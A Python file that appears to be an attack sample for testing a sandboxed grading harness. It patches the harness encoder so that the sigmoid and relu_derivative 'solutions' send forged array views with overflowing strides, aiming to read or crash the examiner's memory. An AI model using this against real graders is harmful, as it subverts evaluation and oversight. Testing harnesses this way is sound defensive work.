"""tries: return a view into the examiner's array whose strides overflow, to read or crash its memory
class: forged messages
alone: yes
"""
# %% added
import sys
wire = sys.modules["sealed.wire.encoding"]
old = wire.Encoder.default

class View:
    def __init__(self, *about):
        self.about = list(about)

def default(self, value):
    if isinstance(value, View):
        return wire.msgpack.ExtType(wire.ext.VIEW, self.pack(value.about))
    return old(self, value)

wire.Encoder.default = default

# %% solution: sigmoid
def sigmoid(x):
    if np.ndim(x) == 0:
        return 1 / (1 + np.exp(-x))
    return View(0, 1, [3], 8, [-(2**63)])

# %% solution: relu_derivative
def relu_derivative(x):
    if np.ndim(x) == 0:
        return float(x > 0)
    return View(0, 1, [2**60 + 1], 0, [1 << 40])
